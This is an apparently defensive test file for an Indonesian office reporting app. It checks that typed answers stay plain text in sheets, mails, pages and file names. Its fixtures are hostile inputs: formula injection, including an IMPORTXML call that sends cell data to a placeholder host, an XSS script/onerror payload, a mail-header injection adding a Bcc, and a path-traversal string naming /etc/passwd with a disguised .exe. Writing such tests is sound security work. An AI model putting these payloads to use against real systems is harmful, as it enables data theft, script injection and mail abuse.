/**
 * Answers that would like to be more than text: a formula, markup, another header of a mail, a path. Wherever they are
 * shown, stored or sent, they stay the characters that were typed.
 */
import { strFromU8, unzipSync } from 'fflate';
import { act, callFromDialog, clickMenu, openDialog, recapRequest } from '../../samples/clicks';
import type { SampleOffice } from '../../samples/office';
import { cellOf, photo } from '../../samples/play';
import {
  ADMIN,
  eventSample,
  FIRST_ROW,
  GID,
  handInEvent,
  intactLines,
  mailsTo,
  newOffice,
  OFFICE,
  PIMPINAN,
  SEKRETARIS,
  STAFF,
  tabTexts,
  WAKIL,
} from '../journeys/office';

/** What spreadsheets reckon with, and what page readers obey. */
const FORMULAS = [
  '=IMPORTXML("https://contoh.id/?"&A1;"//a")',
  '+62 812',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  "'=1+1",
];
const MARKUP = '<img src=x onerror="alert(1)"><script>alert(2)</script>"><b>tebal</b> <?= 1 ?> {{x}} &amp;';

/** What is typed freely, each field with the next of these texts. */
const answersOf = (...texts: string[]) => {
  const fields = [
    'Judul atau nama kegiatan',
    'Nama penyerah',
    'Tempat',
    'Narasi berita',
    'Caption',
    'Caption ringkas untuk X (bila perlu)',
  ];
  return Object.fromEntries(fields.map((field, index) => [field, texts[index % texts.length] ?? '']));
};

/** Through all desks to the papers, each desk's note being such a text too. */
function publishedWith(...texts: string[]): { office: SampleOffice; row: number } {
  const text = (index: number) => texts[index % texts.length] ?? '';
  const office = newOffice();
  const { row } = handInEvent(office, { answers: answersOf(...texts) });
  act(office, ADMIN, 'receive', row, { note: text(0) });
  act(office, WAKIL, 'correct', row, { note: text(1) });
  act(office, PIMPINAN, 'approve', row, { note: text(2) });
  const entries = [
    { platform: 'Instagram', url: 'https://www.instagram.com/p/C1a2b3/', reason: '', at: '' },
    { platform: 'X', url: '', reason: text(3), at: '' },
  ];
  expect(act(office, ADMIN, 'publish', row, { entries }).refused).toBeUndefined();
  expect(callFromDialog(office, SEKRETARIS, 'makeRecap', recapRequest('2026-11')).refused).toBeUndefined();
  expect(callFromDialog(office, SEKRETARIS, 'makeRegisterBook', { year: '2026' }).refused).toBeUndefined();
  office.google.advance(24 * 3_600_000);
  return { office, row };
}

describe('a formula', () => {
  const { office } = publishedWith(...FORMULAS);
  const RECORDS = [GID.register, GID.journal, GID.outbox];

  it('is text in every tab, and what looks like a number stays as it was typed', () => {
    for (const { sheetId } of office.google.world.store.list('sheet')) {
      const cells = office.google.world.store.cells(`${office.spreadsheetId}/${sheetId}`);
      expect(cells.filter(({ cell }) => cell.formula !== undefined)).toEqual([]);
      if (RECORDS.includes(sheetId as never))
        expect(cells.filter(({ cell }) => typeof cell.value === 'number')).toEqual([]);
    }
    const register = tabTexts(office, GID.register)[FIRST_ROW - 1];
    for (const text of FORMULAS) expect(register).toContain(text);
    intactLines(office);
  });

  it('is text in the recap for other programs', () => {
    const file = (format: string) => {
      const request = { ...recapRequest('2026-11'), format };
      const { done } = callFromDialog(office, SEKRETARIS, 'downloadRecap', request);
      return Buffer.from(String(done?.base64), 'base64');
    };
    const fields = [
      ...file('csv')
        .toString('utf8')
        .matchAll(/"((?:[^"]|"")*)"/g),
    ].map((one) => one[1]);
    expect(fields).toContainEqual(expect.stringMatching(/^'=IMPORTXML/));
    for (const field of fields) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    expect(file('xlsx').toString('latin1')).not.toContain('<f>');
  });
});

describe('markup', () => {
  const { office, row } = publishedWith(MARKUP);

  it('is shown as it was typed in every mail', () => {
    const mails = office.google.world.store.list('message');
    expect(mails.length).toBeGreaterThan(4);
    expect(mails.some((mail) => mail.htmlBody?.includes('&lt;script&gt;'))).toBe(true);
    for (const { htmlBody = '' } of mails) {
      expect(htmlBody).not.toMatch(/<script>|<img src=x|<b>tebal/);
    }
  });

  it('is text in the workbook for other programs', () => {
    const request = { ...recapRequest('2026-11'), format: 'xlsx' };
    const { done } = callFromDialog(office, SEKRETARIS, 'downloadRecap', request);
    const parts = unzipSync(Buffer.from(String(done?.base64), 'base64'));
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] as Uint8Array);
    expect(sheet).toContain('&lt;');
    expect(sheet).not.toMatch(/<script|<img|<b>/);
  });

  it('comes to every page as data: nothing of it is outside of the one escaped attribute', () => {
    const second = handInEvent(office, { answers: answersOf(MARKUP) });
    const pages = [
      clickMenu(office, ADMIN, 'openReceive', second.row),
      clickMenu(office, ADMIN, 'openWorkSheet', second.row),
      clickMenu(office, SEKRETARIS, 'openHistory', row),
      clickMenu(office, SEKRETARIS, 'openDeadlines'),
      clickMenu(office, SEKRETARIS, 'openDashboard'),
    ].map(({ effects }) => effects.find((one) => one.kind === 'dialog'));
    for (const page of pages) {
      const html = (page as { html?: string } | undefined)?.html ?? '';
      const [before, props = '', after] = html.split(/data-props="([^"]*)"/);
      expect(props).toContain('{');
      for (const outside of [before, after]) {
        expect(outside).not.toContain('onerror="alert');
        expect(outside).not.toContain('alert(2)');
      }
      expect(props).not.toMatch(/[<>]/);
    }
  });
});

describe('a header of a mail', () => {
  const INJECTED = 'Rapat\r\nBcc: penipu@contoh.com\r\nContent-Type: text/html\r\n\r\n<h1>Hai</h1>';

  const { office } = publishedWith(INJECTED);

  it('in a title, a name or a note stays in its line: no subject breaks, nobody else is written to', () => {
    const listed = [OFFICE, ...tabTexts(office, 106).map((line) => line[2])];
    const mails = office.google.world.store.list('message');
    expect(mails.length).toBeGreaterThan(4);
    for (const mail of mails) {
      expect(mail.subject).not.toMatch(/\p{Cc}/u);
      for (const to of mail.to) expect(listed).toContain(to);
      expect(mail).not.toMatchObject({ bcc: [expect.anything()] });
    }
  });

  it('in the number’s place does not exist: subjects are the number alone', () => {
    expect(mailsTo(office, STAFF)[0]?.subject).toBe('[Register Medsos] MS-2026-0001');
  });
});

describe('a path', () => {
  const PATH = '../../Kotak: "rahasia"*?|<\\\\server\\berbagi> /etc/passwd\u0000\u202Egpj.exe';

  it('in a title is no path: the folder stays in its month, under a name that any system can have', () => {
    const office = newOffice();
    const { row } = handInEvent(office, { answers: { 'Judul atau nama kegiatan': PATH } });
    const { store } = office.google.world;
    const id = cellOf(office, row, 'Tautan berkas').split('/').at(-1) ?? '';
    const folder = store.get('file', id);
    expect(folder?.name).toMatch(/^MS-2026-0001 – /);
    expect(folder?.name).not.toMatch(/[\\/:*?"<>|\p{C}]/u);
    expect(store.get('file', folder?.parentId ?? '')?.name).toBe('11 November');
  });

  it('in a file’s name is not kept: files are called by their number', () => {
    const office = newOffice();
    const { answers, photos } = eventSample();
    const files = photos.map((name, index) => ({ ...photo(name), name: `../${index}/${PATH}.jpg/..` }));
    office.google
      .person(STAFF)
      .submitForm(office.formId, { byTitle: { ...answers, 'Dokumentasi kegiatan': files } });
    const folder = cellOf(office, FIRST_ROW, 'Tautan berkas').split('/').at(-1);
    const names = office.google.world.store.list('file').filter((one) => one.parentId === folder);
    expect(names).toHaveLength(photos.length);
    for (const { name } of names) expect(name).toMatch(/^MS-2026-0001 \d\d$/);
  });

  it('in a note or a filter does not reach a paper’s file name', () => {
    const { office } = publishedWith(PATH);
    const answer = callFromDialog(office, SEKRETARIS, 'makeRecap', recapRequest('2026-11'));
    expect(String(answer.done?.fileName)).not.toMatch(/[\\/:*?"<>|\p{C}]/u);
  });
});

it('the dialog of an item with such texts still opens, and they come back to the page whole', () => {
  const office = newOffice();
  const { row } = handInEvent(office, { answers: answersOf(MARKUP) });
  const { props } = openDialog(office, ADMIN, 'receive', row);
  expect(props?.original).toMatchObject({ narrative: MARKUP, caption: MARKUP });
  expect(tabTexts(office, GID.register)[row - 1]).toContain(MARKUP);
});
